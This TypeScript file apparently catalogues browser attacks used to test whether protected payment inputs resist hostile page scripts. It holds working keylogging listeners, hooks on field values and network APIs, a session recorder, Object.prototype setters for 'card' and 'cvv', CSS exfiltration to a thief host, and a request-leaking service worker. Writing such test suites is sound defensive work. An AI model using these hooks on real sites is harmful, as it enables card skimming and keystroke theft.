// Attacks that read: what stands in the page, what passes through the browser's own functions, what other windows show.
import type { Attack } from './attack.ts';

/** Attacks of scripts that watch all the time. */
export const readingAttacks: readonly Attack[] = [
  {
    name: 'shadow roots by a replaced attachShadow',
    control: 'inline',
    ways: ['values'],
    script({ collect, wrap }) {
      const roots: (Document | ShadowRoot)[] = [document];
      wrap(Element.prototype, 'attachShadow', (_given, root) => roots.push(root as ShadowRoot));
      setInterval(() => {
        for (const root of roots) {
          for (const input of root.querySelectorAll('input')) collect('values', input.value);
          collect('text', root.textContent);
        }
      }, 20);
    },
  },
  {
    name: 'listeners for every key and input',
    control: 'inline',
    ways: ['key keydown', 'key keyup', 'key beforeinput'],
    script({ collect }) {
      const keys = ['keydown', 'keypress', 'keyup'];
      const inputs = ['beforeinput', 'input', 'change', 'paste', 'copy', 'compositionupdate'];
      for (const type of [...keys, ...inputs]) {
        const listener = (event: Event) => {
          const { key, data } = event as KeyboardEvent & InputEvent;
          collect(`key ${type}`, key ?? data ?? '');
        };
        window.addEventListener(type, listener, { capture: true });
        document.addEventListener(type, listener, { capture: true, passive: true });
      }
    },
  },
  {
    name: 'accessors of field values',
    control: 'inline',
    ways: ['value'],
    script({ collect, wrap, wrapProperty }) {
      for (const type of [HTMLInputElement, HTMLTextAreaElement, HTMLSelectElement])
        wrapProperty(type.prototype, 'value', (value) => collect('value', value));
      wrap(HTMLInputElement.prototype, 'setRangeText', (given) => collect('setRangeText', ...given));
      wrap(ElementInternals.prototype, 'setFormValue', (given) => collect('setFormValue', ...given));
      wrap(FormData.prototype, 'append', (given) => collect('FormData', ...given));
      wrap(Element.prototype, 'setAttribute', (given) => collect('setAttribute', ...given));
      wrapProperty(InputEvent.prototype, 'data', (data) => collect('data', data));
    },
  },
  {
    name: 'mutation observers on everything',
    control: 'inline',
    ways: ['attributes'],
    script({ collect, wrap }) {
      const observer = new MutationObserver((records) => {
        for (const { type, target, attributeName, addedNodes } of records) {
          collect(type, target instanceof Element && attributeName ? target.getAttribute(attributeName) : target.textContent); // biome-ignore format: one thought
          for (const node of addedNodes) collect('added', node.textContent);
        }
      });
      const everything = { attributes: true, characterData: true, childList: true, subtree: true };
      observer.observe(document, everything);
      wrap(Element.prototype, 'attachShadow', (_given, root) => observer.observe(root as ShadowRoot, everything));
    },
  },
  {
    name: 'messages between windows and through channels',
    control: 'inline',
    ways: ['posted'],
    script({ collect, wrap, wrapProperty }) {
      for (const owner of [window, MessagePort.prototype, BroadcastChannel.prototype, Worker.prototype])
        wrap(owner, 'postMessage', (given) => collect('posted', ...given));
      wrap(window, 'structuredClone', (given) => collect('cloned', ...given));
      wrapProperty(MessageEvent.prototype, 'data', (data) => collect('received', data));
      window.addEventListener('message', (event) => collect('received', event));
    },
  },
  {
    name: 'fetch, XMLHttpRequest, beacons and sockets',
    control: 'inline',
    ways: ['fetch'],
    script({ collect, wrap }) {
      wrap(window, 'fetch', (given) => collect('fetch', ...given, (given[1] as RequestInit | undefined)?.body));
      wrap(XMLHttpRequest.prototype, 'open', (given) => collect('xhr', ...given));
      wrap(XMLHttpRequest.prototype, 'send', (given) => collect('xhr', ...given));
      wrap(Navigator.prototype, 'sendBeacon', (given) => collect('beacon', ...given));
      wrap(WebSocket.prototype, 'send', (given) => collect('socket', ...given));
      for (const method of ['json', 'text', 'arrayBuffer'])
        wrap(Response.prototype, method, (_given, answer) => (answer as Promise<unknown>).then((body) => collect('answers', body), () => {})); // biome-ignore format: one thought
    },
  },
  {
    name: 'a session recorder',
    control: 'inline',
    ways: ['snapshot'],
    script({ collect, wrap }) {
      const closed = new WeakMap<Element, ShadowRoot>();
      wrap(Element.prototype, 'attachShadow', (_given, root, self) => closed.set(self as Element, root as ShadowRoot));
      const snapshot = (node: Node): unknown => {
        const children = [...node.childNodes];
        if (!(node instanceof Element))
          return node.nodeType === Node.TEXT_NODE ? node.textContent : children.map(snapshot);
        const frame = node instanceof HTMLIFrameElement ? node.contentDocument : null;
        const root = node.shadowRoot ?? closed.get(node);
        return {
          tag: node.localName,
          attributes: [...node.attributes].map(({ name, value }) => [name, value]),
          ...(node instanceof HTMLInputElement && { typed: node.value }),
          children: [...children, ...(root ? [root] : []), ...(frame ? [frame] : [])].map(snapshot),
        };
      };
      setInterval(() => collect('snapshot', snapshot(document)), 50);
      for (const type of ['input', 'selectionchange', 'mousemove', 'scroll', 'focusin'])
        document.addEventListener(type, () => collect('snapshot', snapshot(document)), { capture: true });
    },
  },
  {
    name: 'replaced built-in functions',
    control: 'inline',
    ways: ['JSON.stringify'],
    script({ collect, wrap }) {
      const owners: Record<string, [object, string[]]> = {
        JSON: [JSON, ['stringify', 'parse']],
        Object: [Object, ['assign', 'entries', 'fromEntries', 'keys', 'values']],
        Array: [Array.prototype, ['map', 'join', 'forEach', 'filter', 'includes', 'flatMap']],
        String: [String.prototype, ['replace', 'replaceAll', 'split', 'slice', 'charAt', 'trim', 'match']],
        RegExp: [RegExp.prototype, ['exec', 'test']],
        Promise: [Promise.prototype, ['then']],
        Map: [Map.prototype, ['set', 'get']],
        Set: [Set.prototype, ['add']],
        TextEncoder: [TextEncoder.prototype, ['encode']],
        SubtleCrypto: [SubtleCrypto.prototype, ['encrypt', 'digest', 'sign', 'importKey', 'deriveBits']],
      };
      for (const [name, [owner, methods]] of Object.entries(owners))
        for (const method of methods)
          wrap(owner, method, (given, answer, self) => collect(`${name}.${method}`, ...given, answer, self));
      for (const property of ['answers', 'answer', 'card', 'cvv', 'plaintext'])
        Object.defineProperty(Object.prototype, property, {
          configurable: true,
          set(value: unknown) {
            collect('Object.prototype', value);
            Object.defineProperty(this, property, { value, writable: true, configurable: true, enumerable: true });
          },
        });
    },
  },
  {
    name: 'style sheets that ask for a picture by what is typed',
    restsOnEngine: true,
    control: 'inline',
    ways: ['css'],
    script({ thief, wrap }) {
      const pairs = Array.from({ length: 100 }, (_, pair) => `${pair}`.padStart(2, '0'));
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(
        pairs
          .map((pair) => `input[value^="${pair}"] { background: url(${thief}/leak/css/${pair}) !important }`)
          .join('\n'),
      );
      document.adoptedStyleSheets.push(sheet);
      wrap(Element.prototype, 'attachShadow', (_given, root) => (root as ShadowRoot).adoptedStyleSheets.push(sheet));
    },
  },
  {
    name: 'a service worker of the shop',
    restsOnEngine: true,
    control: 'inline',
    ways: ['service-worker'],
    script(hostile) {
      hostile.ready = navigator.serviceWorker
        .register('/worker.js')
        .then(() => navigator.serviceWorker.controller ?? new Promise((resolve) => navigator.serviceWorker.addEventListener('controllerchange', resolve))); // biome-ignore format: one thought
    },
  },
];

/** The service worker's own script: tells the shop's server of every request that it sees. */
export const workerScript = `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => {
    if (event.request.url.includes('/leak/')) return;
    event.respondWith((async () => {
      const body = event.request.method + ' ' + event.request.url + ' ' + (await event.request.clone().text());
      await fetch('/leak/service-worker', { method: 'POST', body }).catch(() => {});
      return fetch(event.request);
    })());
  });
`;
